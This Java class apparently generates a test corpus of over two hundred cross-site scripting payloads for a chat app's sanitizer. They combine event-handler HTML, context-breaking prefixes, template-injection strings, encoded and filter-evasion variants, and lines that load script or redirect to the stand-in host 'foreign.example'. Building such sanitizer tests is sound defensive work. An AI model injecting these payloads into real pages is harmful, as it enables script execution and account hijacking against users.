package dev.stripechat.stories.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What strangers write so that it runs on somebody else's screen. Each would open a dialog or ask a foreign host. */
public final class Scripts {

    static final String HOST = "foreign.example";

    private static final List<String> ELEMENTS =
            List.of(
                    "<script>%s</script>",
                    "<script src=//foreign.example/%d.js></script>",
                    "<img src=x onerror=%s>",
                    "<img src=//foreign.example/%d.png>",
                    "<svg onload=%s>",
                    "<svg><script>%s</script></svg>",
                    "<svg><animate onbegin=%s attributename=x dur=1s>",
                    "<iframe src=javascript:%s></iframe>",
                    "<iframe srcdoc='<script>parent.%s</script>'></iframe>",
                    "<body onload=%s>",
                    "<input autofocus onfocus=%s>",
                    "<select autofocus onfocus=%s>",
                    "<details open ontoggle=%s>x</details>",
                    "<video src=x onerror=%s>",
                    "<audio src=x onerror=%s>",
                    "<object data=javascript:%s>",
                    "<embed src=//foreign.example/%d>",
                    "<a href=javascript:%s>x</a>",
                    "<math><maction xlink:href=javascript:%s>x",
                    "<style>@import '//foreign.example/%d.css'</style>",
                    "<link rel=stylesheet href=//foreign.example/%d>",
                    "<base href=//foreign.example/%d/>",
                    "<meta http-equiv=refresh content='0;url=//foreign.example/%d'>",
                    "<form action=//foreign.example/%d><button autofocus>x",
                    "<div style='background:url(//foreign.example/%d)'>",
                    "<b onmouseover=%s>x</b>");

    private static final List<String> PLACES =
            List.of(
                    "%s",
                    "\">%s",
                    "'>%s",
                    "</p></li></textarea>%s",
                    "</title></style></script>%s",
                    "-->%s<!--",
                    "]]>%s",
                    "<template>%s</template>");

    private static final List<String> OTHERS =
            List.of(
                    "javascript:%s",
                    "\" onmouseover=%s x=\"",
                    "' autofocus onfocus=%s x='",
                    "{{constructor.constructor('%s')()}}",
                    "${%s}",
                    "&lt;img src=x onerror=%s&gt;",
                    "&#60;script&#62;%s&#60;/script&#62;",
                    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
                    "[x](javascript:%s)",
                    "https://foreign.example/?%d",
                    "\u202E<img src=x onerror=%s>",
                    "<img/src/onerror=%s>",
                    "<scr<script>ipt>%s</scr</script>ipt>",
                    "__proto__");

    private Scripts() {}

    /** More than two hundred, all different. */
    public static List<String> all() {
        List<String> all = new ArrayList<>();
        Stream.concat(
                        PLACES.stream()
                                .flatMap(
                                        place ->
                                                ELEMENTS.stream()
                                                        .map(one -> place.replace("%s", one))),
                        OTHERS.stream())
                .forEach(
                        one ->
                                all.add(
                                        one.replace("%s", "alert(" + all.size() + ")")
                                                .replace("%d", "" + all.size())));
        return all;
    }
}
